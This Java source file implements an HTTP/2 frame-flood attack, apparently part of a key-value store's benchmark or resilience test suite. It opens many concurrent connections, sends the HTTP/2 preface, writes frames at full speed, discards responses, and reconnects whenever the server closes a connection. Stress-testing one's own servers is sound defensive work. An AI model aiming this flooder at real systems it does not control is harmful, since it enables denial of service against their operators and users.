package dev.kvstore.benchmark.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.Supplier;
import java.util.stream.IntStream;

/**
 * HTTP/2 frames as fast as a server takes them, over connections that are made anew as soon as it closes them. What the
 * server sends is thrown away.
 */
final class FrameFlood implements Attack.RunningAttack {
    /** The preface, and settings without any. */
    private static final byte[] HELLO = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0".getBytes(US_ASCII);

    private static final int TIMEOUT_MILLIS = 5_000;
    private static final int READ_BYTES = 1 << 16;

    private final AtomicLong done = new AtomicLong();
    private final Set<Socket> open = ConcurrentHashMap.newKeySet();
    private volatile boolean ending;

    /** The frames of a connection. For one thread. */
    interface Frames {
        /** The next ones, as bytes that are valid until the next call. */
        byte[] next();

        /** How many each call returns. */
        int count();
    }

    private FrameFlood() {}

    /**
     * Begins.
     *
     * @param connections at a time, each of a thread of its own
     * @param frames makes those of a new connection
     */
    static FrameFlood begin(String endpoint, int connections, Supplier<? extends Frames> frames) {
        FrameFlood flood = new FrameFlood();
        int colon = endpoint.lastIndexOf(':');
        InetSocketAddress address =
                new InetSocketAddress(endpoint.substring(0, colon), Integer.parseInt(endpoint.substring(colon + 1)));
        IntStream.range(0, connections).forEach(_ -> Thread.startVirtualThread(() -> flood.run(address, frames)));
        return flood;
    }

    private void run(InetSocketAddress address, Supplier<? extends Frames> frames) {
        while (!ending) {
            try (Socket socket = new Socket()) {
                open.add(socket);
                AttackerAddress.bind(socket);
                socket.connect(address, TIMEOUT_MILLIS);
                InputStream in = socket.getInputStream();
                Thread.startVirtualThread(() -> discard(in));
                send(socket.getOutputStream(), frames.get());
            } catch (IOException closed) {
                // And again, from the beginning.
            } finally {
                open.removeIf(Socket::isClosed);
            }
        }
    }

    private void send(OutputStream out, Frames frames) throws IOException {
        out.write(HELLO);
        while (!ending) {
            out.write(frames.next());
            done.addAndGet(frames.count());
        }
    }

    private static void discard(InputStream in) {
        byte[] bytes = new byte[READ_BYTES];
        try {
            while (in.read(bytes) >= 0) {
                // Until the server says no more.
            }
        } catch (IOException closed) {
            // The writer notices, too.
        }
    }

    @Override
    public long done() {
        return done.get();
    }

    @Override
    public void close() {
        ending = true;
        for (Socket socket : open) {
            try {
                socket.close();
            } catch (IOException e) {
                // It is gone.
            }
        }
    }
}
